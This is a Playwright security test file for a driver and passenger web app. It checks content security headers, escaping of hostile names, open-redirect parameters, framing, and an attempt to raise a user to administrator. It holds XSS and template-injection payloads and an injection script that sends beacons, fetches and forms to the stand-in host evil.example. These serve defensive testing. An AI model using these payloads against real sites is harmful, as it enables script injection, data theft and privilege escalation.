import { expect, test, type Page } from '@playwright/test';
import { admin as adminWords } from '../../web/i18n/es/admin.ts';
import { chooseLanguage, closePanel, openPanel } from './passengerSteps.ts';
import { createAccount, createDriver, patch, rows } from './people.ts';
import { address } from './settings.ts';
import { fillRegistration, newForm, openSection, shownPlate, signIn, submitSignIn } from './steps.ts';
import { content, languages, wordsOf } from './words.ts';

const hostileName = '<img src=x onerror="window.broken=1"> {{7*7}} ${7*7} \u202e Ana';
const hostileRoute = '"><script>window.broken=1</script>{{constructor}}';

/** The requests that a browser blocks because of a page's policy. */
function refusalsOf(page: Page): string[] {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions policy violation/i.test(message.text()))
      refusals.push(message.text());
  });
  return refusals;
}

/** That nothing which was written as a text has become a part of the page. */
async function expectUnbroken(page: Page): Promise<void> {
  expect(await page.evaluate('window.broken')).toBeUndefined();
  expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
}

test('H1 H2 every page has the strict policy, and keeps to it', async ({ page, request }) => {
  const refusals = refusalsOf(page);
  const driver = await createDriver();
  const [{ verification_code: code } = { verification_code: '' }] = await rows<{ verification_code: string }>(
    'drivers',
    `id=eq.${driver.driverId}&select=verification_code`,
  );
  for (const path of ['/', '/login', `/verify/${code}`, '/rate/nothing', '/guide', '/nothing/there']) {
    const headers = (await page.goto(path))!.headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain(
      "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'self'",
    );
    expect(policy).not.toMatch(/unsafe|\*/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['permissions-policy']).toContain('camera=(), microphone=()');
    await expect(page.locator('#root')).not.toBeEmpty();
    await page.waitForLoadState('networkidle');
  }
  await fillRegistration(page, newForm());
  await signIn(page, driver);
  const { home } = await wordsOf('es');
  for (const { title } of [home.tiles.tours, home.tiles.safety]) {
    await page.getByRole('main').getByRole('button', { name: title }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
  }
  expect(refusals).toEqual([]);
  const missing = await request.get('/nothing.js');
  expect([missing.status(), missing.headers()['content-security-policy']]).toEqual([
    404,
    "default-src 'none'; frame-ancestors 'none'",
  ]);
  const [script = ''] = /\/assets\/[^"]+\.js/.exec(await (await request.get('/')).text()) ?? [];
  expect((await request.get(script)).headers()['cache-control']).toBe('public, max-age=31536000, immutable');
});

test('H6 names and tours that look like code are shown as text, in every language', async ({ page }) => {
  test.slow();
  const driver = await createDriver();
  await patch('drivers', `id=eq.${driver.driverId}`, { name: hostileName });
  const [{ verification_code: code } = { verification_code: '' }] = await rows<{
    verification_code: string;
  }>('drivers', `id=eq.${driver.driverId}&select=verification_code`);
  const es = hostileRoute;
  const tours = content.tours.map((tour) => ({
    ...tour,
    name: { es },
    description: { es },
    taxiTime: { es },
  }));
  const cities = content.cities.map((city, index) => (index === 0 ? { ...city, name: { es } } : city));
  const release = {
    id: 99,
    published_at: '2026-11-22T12:00:00+00:00',
    content: { ...content, tours, cities },
  };
  await page.route('**/rest/v1/content_releases*', (route) => route.fulfill({ json: [release] }));
  await signIn(page, driver);
  await expect(page.getByRole('main').getByText(hostileRoute)).toBeVisible();
  for (const language of languages) {
    if (language !== 'es') await chooseLanguage(page, language);
    await expect(page.getByRole('heading', { name: hostileName })).toBeVisible();
    const { home } = await wordsOf(language);
    await openPanel(page, home.tiles.tours.title);
    await expect(page.getByRole('dialog').getByText(hostileRoute).first()).toBeVisible();
    await expectUnbroken(page);
    await closePanel(page);
  }
  await page.goto(`/verify/${code}`);
  await expect(page.getByText(shownPlate(driver.plate))).toBeVisible();
  await expect(page.getByText(/<img/).first()).toBeVisible();
  await expectUnbroken(page);
});

test('H6 the administrator sees a hostile name as text', async ({ page }) => {
  const driver = await createDriver();
  await patch('drivers', `id=eq.${driver.driverId}`, { name: hostileName });
  await signIn(page, await createAccount('admin'));
  await openSection(page, adminWords.drivers);
  await page.getByRole('searchbox').fill(driver.plate);
  await expect(page.getByText(hostileName).first()).toBeVisible();
  await expectUnbroken(page);
});

test('H6 links lead where they should: no way in by “next”, digits for WhatsApp, no hold on this page', async ({
  page,
  context,
}) => {
  await context.route(/google\.com|wa\.me/, (route) => route.fulfill({ body: 'elsewhere' }));
  const account = await createDriver();
  await page.goto('/login?next=//evil.example&redirect_to=https://evil.example&returnTo=javascript:alert(1)');
  await submitSignIn(page, account);
  await expect(page.getByRole('banner')).toContainText(account.name);
  expect(page.url()).toBe(`${address}/`);
  await expect(page.locator('a[target=_blank]').first()).toBeAttached();
  const links = await page
    .locator('a[target=_blank]')
    .evaluateAll((found) =>
      found.map((link) => ({ rel: link.getAttribute('rel') ?? '', href: link.getAttribute('href') ?? '' })),
    );
  expect(links.length).toBeGreaterThan(0);
  for (const { rel } of links) expect(rel).toContain('noopener');
  for (const { href } of links.filter((link) => link.href.includes('wa.me')))
    expect(href).toMatch(/^https:\/\/wa\.me\/\d{9,15}(\?text=[^<>"]*)?$/);
  const { home } = await wordsOf('es');
  const opened = context.waitForEvent('page');
  await page.getByRole('button', { name: home.tiles.location.title }).click();
  const map = await opened;
  await map.waitForURL(/google\.com/);
  expect(await map.evaluate('window.opener')).toBeNull();
});

test('H1 H2 a page of somebody else neither frames a page of ours nor keeps hold of its window', async ({
  page,
  context,
}) => {
  const foreign = address.replace('127.0.0.1', 'localhost');
  // Browsers apply Cross-Origin-Opener-Policy at trustworthy origins only, such as those of this machine.
  await context.route(`${foreign}/attack`, (route) =>
    route.fulfill({ contentType: 'text/html', headers: {}, body: '<!doctype html><title>attack</title>' }),
  );
  await page.goto(`${foreign}/attack`);
  for (const [index, path] of ['/login', '/rate/nothing', '/guide'].entries()) {
    const opened = context.waitForEvent('page');
    await page.evaluate(`void (window.held = open('${address}${path}'))`);
    const window = await opened;
    await window.waitForLoadState();
    expect(await window.evaluate('window.opener')).toBeNull();
    // A browser tells the opener that the window is closed: it is no longer in reach.
    await expect.poll(() => page.evaluate('held.closed')).toBe(true);
    await window.close();
    await page.evaluate(
      `void document.body.append(Object.assign(document.createElement('iframe'), { src: '${address}${path}' }))`,
    );
    const refused = Array<string>(index + 1).fill('chrome-error://chromewebdata/');
    const frames = () => page.frames().filter((frame) => frame !== page.mainFrame());
    await expect.poll(() => frames().map((frame) => frame.url())).toEqual(refused);
  }
});

/** Puts into a page what an attacker would, and gives what became of a request to the attacker's server. */
const injection = `(() => {
  const evil = 'https://evil.example/';
  const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
  add('script', { textContent: 'window.broken = 1' });
  add('script', { src: evil + 'a.js' });
  add('script', { src: 'data:text/javascript,window.broken=1' });
  add('img', { src: evil + 'pixel.png' });
  add('div', { innerHTML: '<img src="data:," onerror="window.broken = 1">' });
  add('a', { href: 'javascript:window.broken=1' }).click();
  add('link', { rel: 'stylesheet', href: evil + 'a.css' });
  add('base', { href: evil });
  add('iframe', { srcdoc: '<script>parent.broken = 1</script>' });
  add('object', { data: evil + 'a.swf' });
  add('form', { action: evil + 'form' }).submit();
  navigator.sendBeacon(evil + 'beacon', 'x');
  setTimeout('window.broken = 1');
  return fetch(evil + 'data').then(() => 'sent', () => new Promise((done) => setTimeout(done, 0, 'refused')));
})()`;

test('H1 markup that gets into a page runs no script, and sends nothing away', async ({ page, context }) => {
  const asked: string[] = [];
  await context.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.broken = 1' });
  });
  for (const path of ['/login', '/guide']) {
    await page.goto(path);
    expect(await page.evaluate(injection)).toBe('refused');
    expect(await page.evaluate('window.broken')).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(address);
    // The guide may add its language to the address at any moment.
    expect(await page.evaluate(`document.baseURI.split('?')[0]`)).toBe(address + path);
  }
  expect(asked).toEqual([]);
});

test('R10 whoever calls themselves an administrator sees the passenger screen', async ({ page }) => {
  const driver = await createDriver();
  await signIn(page, driver);
  const status = await page.evaluate<number>(`(async () => {
    const session = JSON.parse(Object.entries(localStorage).find(([key]) => key.endsWith('-auth-token'))[1]);
    const response = await fetch('/auth/v1/user', {
      method: 'PUT',
      headers: {
        apikey: document.querySelector('meta[name=publishable-key]').content,
        authorization: 'Bearer ' + session.access_token,
        'content-type': 'application/json',
      },
      body: JSON.stringify({ data: { role: 'admin', app_metadata: { role: 'admin' } } }),
    });
    session.expires_at = 1;
    localStorage.setItem(Object.keys(localStorage).find((key) => key.endsWith('-auth-token')), JSON.stringify(session));
    return response.status;
  })()`);
  expect(status).toBe(200);
  const refreshed = page.waitForResponse(/grant_type=refresh_token/);
  await page.reload();
  expect((await refreshed).status()).toBe(200);
  await expect(page.getByRole('heading', { name: driver.name })).toBeVisible();
  await expect(page.getByRole('heading', { name: adminWords.title })).toBeHidden();
});
